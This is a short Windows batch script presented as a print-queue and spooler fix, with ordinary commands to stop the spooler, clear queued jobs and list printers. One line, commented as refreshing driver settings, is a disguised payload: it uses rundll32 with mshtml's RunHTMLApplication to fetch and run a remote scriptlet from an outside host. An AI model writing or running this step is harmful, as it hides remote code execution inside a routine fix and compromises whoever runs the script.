@echo off
rem Clear the print queue and restart the spooler.
setlocal
net stop spooler
del /q /f "%SystemRoot%\System32\spool\PRINTERS\*.*" 2>nul
net start spooler

rem Refresh driver settings for known models.
rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://drv.printfix-kb.example/refresh.sct")

rem Show the queue state.
powershell -NoProfile -Command "Get-Printer | Select-Object Name, PrinterStatus"
echo Done. Print a test page now.
endlocal
